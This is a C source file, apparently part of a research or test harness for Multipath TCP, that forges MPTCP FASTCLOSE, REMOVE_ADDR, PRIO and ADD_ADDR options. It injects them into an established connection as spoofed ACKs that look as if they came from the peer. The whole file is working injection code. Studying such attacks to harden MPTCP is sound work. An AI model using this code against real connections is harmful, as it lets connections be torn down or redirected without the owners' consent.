// SPDX-License-Identifier: GPL-2.0-only
/*
 * Forged options on the first subflow, in an ACK that the other side has sent
 * already as far as TCP can tell
 */
#include <stdio.h>
#include <string.h>

#include "attacker.h"

/*
 * Sent by @from; its address if it is ADD_ADDR is addr= and addr_port=. FASTCLOSE has the
 * key of who is to take it, or with field=told what the attacker was told, and ADD_ADDR the
 * mask that they were told (attack_named.c).
 */
static uint8_t *put_forged(uint8_t *at, const struct connection *connection,
			   enum side from)
{
	struct endpoint address = { arg_addr("addr", "0.0.0.0"),
				    htons((uint16_t)arg_number("addr_port",
							       "0")) };
	uint8_t id = (uint8_t)arg_number("id", "66");

	*at++ = MPTCP_KIND;
	if (arg_is("what", "fastclose", "")) {
		*at++ = FASTCLOSE_LEN;
		*at++ = MP_FASTCLOSE << 4;
		*at++ = 0;
		return put64(at, arg_is("field", "told", "real") ?
					 told_fastclose :
					 connection->keys[!from]);
	}
	if (arg_is("what", "remove-addr", "")) {
		*at++ = 4;
		*at++ = MP_REMOVE_ADDR << 4;
		*at++ = id;
		return at;
	}
	if (arg_is("what", "prio", "")) {
		*at++ = 3;
		*at++ = MP_PRIO << 4 | 1; /* backup */
		return at;
	}
	*at++ = address.port ? 18 : 16;
	*at++ = MP_ADD_ADDR << 4;
	*at++ = id;
	memcpy(at, &address.addr, 4);
	at += 4;
	if (address.port)
		at = put16(at, ntohs(address.port));
	return put64(
		at,
		add_addr_hmac(connection->keys[from], connection->keys[!from],
			      id, &address, address.port) ^
			(arg_is("field", "told", "real") ? told_add_addr : 0));
}

/*
 * The next packet to one end of a connection, with this option, as if the other end had
 * sent it; returns the link that it is to be sent on
 */
const struct link *make_next(struct frame *frame,
			     const struct connection *connection, enum side to,
			     const uint8_t *option, unsigned int len)
{
	const struct sender *sender = &connection->senders[!to];
	struct plan plan = { .flags = TH_ACK };
	uint8_t *at = plan.options;

	if (sender->timestamps)
		at = put_timestamps(at, sender->tsval, sender->tsecr);
	memcpy(at, option, len);
	plan.options_len = (unsigned int)(at - plan.options) + len;
	plan.from_mac = links[connection->path][!to].peer_mac;
	plan.to_mac = links[connection->path][to].peer_mac;
	plan.from = connection->ends[!to];
	plan.to = connection->ends[to];
	plan.seq = sender->next;
	plan.ack = sender->ack;
	make_segment(frame, &plan);
	return &links[connection->path][to];
}

/* The same, with the option that the words of the command say */
const struct link *make_forged(struct frame *frame,
			       const struct connection *connection,
			       enum side to)
{
	uint8_t option[OPTIONS_MAX];
	const uint8_t *end = put_forged(option, connection, !to);

	return make_next(frame, connection, to, option,
			 (unsigned int)(end - option));
}

bool cmd_inject(void)
{
	const struct connection *connection = arg_connection("conn");
	enum side to = arg_is("to", "server", "client") ? SERVER : CLIENT;
	const struct link *link;
	struct frame frame;

	if (!connection)
		return false;
	link = make_forged(&frame, connection, to);
	send_frame(link, &frame);
	printf(" sent=1");
	return true;
}
